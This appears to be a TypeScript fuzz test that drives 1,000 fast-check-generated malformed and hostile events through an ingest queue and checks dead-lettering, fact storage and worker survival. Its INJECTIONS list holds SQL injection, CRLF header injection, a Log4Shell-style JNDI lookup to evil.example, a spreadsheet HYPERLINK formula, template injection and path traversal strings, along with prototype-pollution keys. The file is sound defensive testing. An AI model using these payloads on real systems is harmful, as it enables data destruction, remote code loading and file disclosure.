// Issue 3, "Done when": 1,000 generated hostile events (fast-check: wrong types, missing
// fields, huge strings, control characters and NUL, negative or non-numeric amounts,
// impossible dates, unknown types, __proto__ keys, SQL and header-injection strings in
// names) mixed with valid ones go through the ingest queues, and every one ends either in
// the dead-letter store or as a valid fact — the counts add up, the facts are what the
// domain folds from the events that were stored, and the worker keeps processing.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadPartnerFacts } from '../../services/facts.ts';
import { rawHash } from '../../db/repositories/dead-letters.ts';
import type { OutcomeCounts } from '../../services/ingest/batch.ts';
import { validateEvent } from '../../domain/events/parse.ts';
import { FactFolder } from '../../domain/facts/fold.ts';
import { runIngest } from '../../scripts/commands/ingest.ts';
import { createPipeline, type Pipeline } from '../setup/pipeline.ts';
import { counts, dealEvent, fingerprint, ingestJobs, ingestOne, normaliseAll, withCliEnv } from './support.ts';

type Json = Record<string, unknown>;

const INJECTIONS = [
  "Robert'); DROP TABLE partners;--",
  "' OR '1'='1",
  '1; DELETE FROM inbox WHERE true; --',
  "x'::jsonb; select pg_sleep(10); --",
  '$$; truncate deals; $$',
  'Acme\r\nBcc: victim@example.com',
  'Acme\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example","x")',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%0d%0aSet-Cookie: a=b',
];

const CONTROL = fc.string({
  unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)),
  minLength: 1,
  maxLength: 20,
});
const LONE_SURROGATE = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => `x${String.fromCharCode(c)}y`);

const hostileString = fc.oneof(
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 3 },
  { arbitrary: CONTROL, weight: 2 },
  { arbitrary: fc.constantFrom(...INJECTIONS), weight: 3 },
  { arbitrary: fc.constantFrom('\u0000', 'a\u0000b', '\u0000'.repeat(10)), weight: 1 },
  { arbitrary: LONE_SURROGATE, weight: 1 },
  {
    arbitrary: fc.constantFrom('', ' ', '__proto__', 'constructor', 'null', 'undefined', '\ufeff', '\u202e'),
    weight: 1,
  },
  // Huge strings, up to ~70 KB (over the 65,536-byte event limit at the top).
  { arbitrary: fc.integer({ min: 1_001, max: 70_000 }).map((n) => 'W'.repeat(n)), weight: 1 },
);

const numberish = fc.constantFrom(
  '-5',
  '-0.01',
  '1e308',
  '1E3',
  'NaN',
  'Infinity',
  '-Infinity',
  '5,000.00',
  '0x10',
  ' 12.00',
  '12.00 ',
  '12.',
  '.5',
  '+3',
  '12.345',
  '',
  '٣٤',
  '1_000',
  '99999999999999999999999999999999.99',
  '0',
  '0.00',
  '1.50000',
);
const dateish = fc.constantFrom(
  '2026-02-30',
  '0000-00-00',
  '2026-13-01',
  '2026-00-10',
  '1899-12-31',
  '3000-01-01',
  '2026-11-20T25:00:00Z',
  '2026-11-20T10:00:00',
  '20261120',
  '2026/11/20',
  'tomorrow',
  '',
  '2026-11-20T23:30:00-05:00',
  '1900-01-01',
  '2999-12-31',
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileString, weight: 5 },
  { arbitrary: numberish, weight: 3 },
  { arbitrary: dateish, weight: 3 },
  {
    arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constant(-1), fc.constant(2 ** 63), fc.constant(1e308)),
    weight: 2,
  },
  { arbitrary: fc.constantFrom(null, true, false, undefined, [], {}, [1, 2], { $gt: '' }), weight: 2 },
);

/** A valid event of one of the seven types, unique per index. */
function baseEvent(i: number, kind: number): Json {
  const partnerId = `HP-${i}`;
  const envelope = (source: string, type: string, data: Json): Json => ({
    id: `hostile-${i}`,
    source,
    type,
    occurredAt: '2026-11-20T14:03:11Z',
    partnerId,
    data,
  });
  switch (kind % 7) {
    case 0:
      return envelope('crm', 'partner.upserted', {
        name: `Partner ${i}`,
        partnerType: 'reseller',
        region: 'EMEA',
        contacts: [{ email: `p${i}@example.com`, name: 'Ann', role: 'primary' }],
        status: 'active',
        version: 1,
      });
    case 1:
      return envelope('crm', 'deal.upserted', {
        dealId: `D-${i}`,
        stage: 'closed_won',
        amount: '1200.50',
        currency: 'USD',
        customerId: `C-${i}`,
        registeredAt: '2026-08-02',
        closedAt: '2026-11-20',
        version: 2,
      });
    case 2:
      return envelope('lms', 'certification.earned', {
        personId: `E-${i}`,
        certificationId: 'sales-expert',
        earnedAt: '2026-03-01',
        expiresAt: '2028-03-01',
      });
    case 3:
      return envelope('lms', 'certification.revoked', {
        personId: `E-${i}`,
        certificationId: 'sales-expert',
        revokedAt: '2026-06-01',
      });
    case 4:
      return envelope('lms', 'person.departed', { personId: `E-${i}`, departedAt: '2026-07-01' });
    case 5:
      return envelope('erp', 'invoice.booked', {
        invoiceId: `INV-${i}`,
        amount: '300.00',
        currency: 'EUR',
        fxRate: '1.0842',
        bookedAt: '2026-10-01',
        recurring: true,
      });
    default:
      return envelope('erp', 'invoice.credited', {
        invoiceId: `INV-${i}`,
        creditId: `CR-${i}`,
        amount: '50.00',
        currency: 'USD',
        creditedAt: '2026-10-15',
      });
  }
}

type Mutation =
  | { op: 'none' }
  | { op: 'set'; field: number; value: unknown }
  | { op: 'delete'; field: number }
  | { op: 'inject'; field: number; value: string }
  | { op: 'type'; value: string }
  | { op: 'line'; how: number; at: number; value: string };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { arbitrary: fc.constant({ op: 'none' as const }), weight: 3 },
  { arbitrary: fc.record({ op: fc.constant('set' as const), field: fc.nat(), value: hostileValue }), weight: 6 },
  { arbitrary: fc.record({ op: fc.constant('delete' as const), field: fc.nat() }), weight: 2 },
  {
    arbitrary: fc.record({
      op: fc.constant('inject' as const),
      field: fc.nat(),
      value: fc.constantFrom(...INJECTIONS),
    }),
    weight: 3,
  },
  {
    arbitrary: fc.record({
      op: fc.constant('type' as const),
      value: fc.constantFrom(
        'deal.deleted',
        'partner.upserted',
        'invoice.booked',
        'DEAL.UPSERTED',
        '',
        'constructor',
        '__proto__',
        'certification.earned ',
      ),
    }),
    weight: 1,
  },
  {
    arbitrary: fc.record({
      op: fc.constant('line' as const),
      how: fc.nat({ max: 6 }),
      at: fc.nat(),
      value: hostileString,
    }),
    weight: 3,
  },
);

/** Where a field mutation lands: the envelope or one of the data fields. */
function fieldsOf(event: Json): Array<{ on: Json; key: string }> {
  const data = event.data as Json;
  return [
    ...['id', 'source', 'type', 'occurredAt', 'partnerId', 'data'].map((key) => ({ on: event, key })),
    ...Object.keys(data).map((key) => ({ on: data, key })),
  ];
}

const KEYS = new Set(['id', 'partnerId']);

function hostileLine(i: number, kind: number, m: Mutation): string {
  const event = baseEvent(i, kind);
  switch (m.op) {
    case 'none':
      return JSON.stringify(event);
    case 'set':
    case 'inject': {
      const fields = fieldsOf(event);
      const { on, key } = fields[m.field % fields.length] as { on: Json; key: string };
      // A mutated id or partnerId stays unique, so every event is judged on its own.
      on[key] = KEYS.has(key) && typeof m.value === 'string' ? `${m.value}~${i}` : m.value;
      return JSON.stringify(event);
    }
    case 'delete': {
      const fields = fieldsOf(event);
      const { on, key } = fields[m.field % fields.length] as { on: Json; key: string };
      delete on[key];
      return JSON.stringify(event);
    }
    case 'type':
      event.type = m.value;
      return JSON.stringify(event);
    case 'line': {
      const text = JSON.stringify(event);
      const at = m.at % (text.length + 1);
      switch (m.how) {
        case 0: // truncated
          return text.slice(0, at);
        case 1: // garbage (control characters, NUL, ...) spliced into the JSON text
          return `${text.slice(0, at)}${m.value}${text.slice(at)}`;
        case 2: // not an object
          return [JSON.stringify(m.value), '[]', 'null', '42', 'true', '"event"', ''][at % 7] as string;
        case 3: // __proto__ in the envelope
          return text.replace(
            '{',
            `{"__proto__":{"source":"crm","type":"deal.upserted","polluted":${JSON.stringify(m.value)}},`,
          );
        case 4: // __proto__ in the data
          return text.replace('"data":{', `"data":{"__proto__":{"amount":"-1","version":${JSON.stringify(m.value)}},`);
        case 5: // an unknown field whose value is hostile
          return text.replace('"data":{', `"data":{"note":${JSON.stringify(m.value)},`);
        default: // a byte-order mark or a second value after the object
          return at % 2 === 0 ? `\ufeff${text}` : `${text} ${text}`;
      }
    }
  }
}

/** The queue a producer would route a line to; lines naming no source go to crm and fail there. */
function queueOf(raw: string): 'crm' | 'lms' | 'erp' {
  try {
    const source = (JSON.parse(raw) as { source?: unknown } | null)?.source;
    if (source === 'crm' || source === 'lms' || source === 'erp') return source;
  } catch {
    // not JSON
  }
  return 'crm';
}

const generated: Array<{ kind: number; m: Mutation }> = fc.sample(
  fc.tuple(fc.nat({ max: 6 }), mutation).map(([kind, m]) => ({ kind, m })),
  { numRuns: 1_000, seed: 20261123 },
);

describe('ingest: 1,000 hostile events', () => {
  let pipeline: Pipeline;
  let raws: string[];
  let results: OutcomeCounts[];

  beforeAll(async () => {
    pipeline = await createPipeline();
    await pipeline.startWorkers(['ingest']);
    raws = generated.map(({ kind, m }, i) => hostileLine(i, kind, m));
    // Grouped by queue in jobs of 40 (huge strings make big jobs).
    const byQueue = { crm: [] as string[], lms: [] as string[], erp: [] as string[] };
    for (const raw of raws) byQueue[queueOf(raw)].push(raw);
    results = [];
    for (const [queue, lines] of Object.entries(byQueue) as Array<['crm' | 'lms' | 'erp', string[]]>) {
      const groups: string[][] = [];
      for (let i = 0; i < lines.length; i += 40) groups.push(lines.slice(i, i + 40));
      results.push(...(await ingestJobs(pipeline, queue, groups)));
    }
  }, 120_000);
  afterAll(async () => {
    await pipeline?.stop();
  });

  it('generates a mix of valid and broken events of every kind', () => {
    expect(raws).toHaveLength(1_000);
    const ctx = { currency: 'USD', timezone: 'UTC' };
    const valid = raws.filter((r) => {
      try {
        return validateEvent(JSON.parse(r), ctx).ok;
      } catch {
        return false;
      }
    });
    expect(valid.length).toBeGreaterThan(200);
    expect(raws.length - valid.length).toBeGreaterThan(400);
    expect(raws.some((r) => r.includes('\\u0000'))).toBe(true);
    expect(raws.some((r) => Buffer.byteLength(r) > 65_536)).toBe(true);
  });

  it('ends every event in the dead-letter store or as a valid fact, and the counts add up', async () => {
    const total = results.reduce((sum, c) => {
      for (const k of Object.keys(sum) as (keyof OutcomeCounts)[]) sum[k] += c[k];
      return sum;
    }, counts({}));
    expect(total.accepted + total.duplicate + total.stale + total.conflict + total['dead-lettered']).toBe(1_000);
    expect(total.duplicate + total.conflict).toBe(0);

    const dead = await pipeline.database.db
      .selectFrom('dead_letters')
      .select(['raw_hash', 'attempts', 'reason', 'raw'])
      .execute();
    const deadHashes = new Map(dead.map((d) => [d.raw_hash, d]));
    const inbox = await pipeline.database.db
      .selectFrom('inbox')
      .select(['source', 'event_id', 'payload_hash', 'outcome'])
      .execute();
    const inboxByKey = new Map(inbox.map((r) => [`${r.source}\u0000${r.event_id}`, r]));

    let deadLettered = 0;
    let stored = 0;
    const problems: string[] = [];
    raws.forEach((raw, i) => {
      const inDlq = deadHashes.has(rawHash(Buffer.from(raw, 'utf8')));
      let inInbox = false;
      try {
        const parsed = JSON.parse(raw) as { source?: unknown; id?: unknown };
        const row = inboxByKey.get(`${String(parsed.source)}\u0000${String(parsed.id)}`);
        inInbox = row !== undefined && row.payload_hash === fingerprint(parsed);
      } catch {
        inInbox = false;
      }
      if (inDlq === inInbox)
        problems.push(
          `event ${i} is ${inDlq ? 'both dead-lettered and stored' : 'neither dead-lettered nor stored'}: ${raw.slice(0, 200)}`,
        );
      if (inDlq) deadLettered++;
      if (inInbox) stored++;
    });
    expect(problems).toEqual([]);
    expect(deadLettered).toBe(total['dead-lettered']);
    expect(stored).toBe(total.accepted + total.stale);
    expect(inbox).toHaveLength(stored);
    // Every distinct broken line is one row with its attempts, and a reason.
    expect(dead.reduce((n, d) => n + d.attempts, 0)).toBe(deadLettered);
    for (const d of dead) expect((d.reason as { message: string }).message.length).toBeGreaterThan(0);
  });

  it('stores as facts exactly what the domain folds from the stored events', async () => {
    const folder = new FactFolder(pipeline.program.currency);
    const ctx = { currency: pipeline.program.currency, timezone: pipeline.program.timezone };
    const inbox = await pipeline.database.db.selectFrom('inbox').select(['payload']).orderBy('received_seq').execute();
    for (const { payload } of inbox) {
      const result = validateEvent(payload, ctx);
      expect(result.ok).toBe(true);
      if (result.ok) folder.add(result.event, result.raw);
    }
    const ids = [...folder.partners.keys()];
    const facts = await loadPartnerFacts(pipeline.database.db, ids, pipeline.program.currency);
    expect(normaliseAll(facts)).toEqual(normaliseAll(folder.partners));
    // Nothing else was written: every partner with facts has a stored event.
    const partnersWithFacts = await pipeline.database.db
      .selectFrom('deals')
      .select('partner_id')
      .union((eb) => eb.selectFrom('partners').select('partner_id'))
      .union((eb) => eb.selectFrom('certifications_earned').select('partner_id'))
      .union((eb) => eb.selectFrom('invoices').select('partner_id'))
      .union((eb) => eb.selectFrom('invoice_credits').select('partner_id'))
      .execute();
    for (const p of partnersWithFacts) expect(ids).toContain(p.partner_id);
  });

  it('keeps the worker processing: a valid event enqueued after them is stored', async () => {
    for (const worker of pipeline.runner?.workers ?? []) expect(worker.isRunning()).toBe(true);
    expect(await ingestOne(pipeline, 'crm', [JSON.stringify(dealEvent('crm-after-hostile', 'P-AFTER'))])).toEqual(
      counts({ accepted: 1 }),
    );
    const deal = await pipeline.database.db
      .selectFrom('deals')
      .selectAll()
      .where('partner_id', '=', 'P-AFTER')
      .executeTakeFirstOrThrow();
    expect(deal.event_id).toBe('crm-after-hostile');
  });
});

describe('ingest FILE: hostile bytes on the producer path', () => {
  let pipeline: Pipeline;
  let dir: string;

  beforeAll(async () => {
    pipeline = await createPipeline();
    await pipeline.startWorkers(['ingest']);
    dir = await mkdtemp(join(tmpdir(), 'tierline-hostile-'));
  });
  afterAll(async () => {
    await pipeline?.stop();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('dead-letters lines that are not UTF-8, not JSON, oversize or unroutable, keeps their bytes, and stores the rest', async () => {
    const good = (n: number) => Buffer.from(JSON.stringify(dealEvent(`crm-file-${n}`, 'P-FILE', { dealId: `D-${n}` })));
    const oversize = Buffer.from(
      JSON.stringify(dealEvent('crm-file-big', 'P-FILE', { customerId: 'C'.repeat(70_000) })),
    );
    const bad: Buffer[] = [
      Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), // not UTF-8
      Buffer.from('{"id":"x","source":"crm"\u0000}'), // NUL in the JSON text
      Buffer.from('\u0000\u0000\u0000'),
      oversize,
      Buffer.from(JSON.stringify({ ...dealEvent('crm-file-src', 'P-FILE'), source: 'hr' })), // no known source
      Buffer.from('[1,2,3]'),
      Buffer.from(JSON.stringify(dealEvent('crm-file-neg', 'P-FILE', { amount: '-1.00' }))),
    ];
    const lines = [
      good(1),
      bad[0],
      good(2),
      bad[1],
      bad[2],
      good(3),
      bad[3],
      bad[4],
      good(4),
      bad[5],
      bad[6],
      good(5),
    ] as Buffer[];
    const path = join(dir, 'hostile.jsonl');
    await writeFile(path, Buffer.concat(lines.flatMap((l, i) => [l, Buffer.from(i % 3 === 0 ? '\r\n' : '\n')])));

    const result = await withCliEnv(pipeline, () => runIngest(path, { wait: true }));
    expect(result).toEqual(counts({ accepted: 5, 'dead-lettered': bad.length }));
    const deals = await pipeline.database.db
      .selectFrom('deals')
      .select('deal_id')
      .where('partner_id', '=', 'P-FILE')
      .orderBy('deal_id')
      .execute();
    expect(deals.map((d) => d.deal_id)).toEqual(['D-1', 'D-2', 'D-3', 'D-4', 'D-5']);
    const dead = await pipeline.database.db.selectFrom('dead_letters').select(['raw', 'raw_hash']).execute();
    const kept = new Set(dead.map((d) => d.raw.toString('hex')));
    for (const line of bad) expect(kept.has(line.toString('hex')), line.subarray(0, 40).toString('latin1')).toBe(true);
  });
});
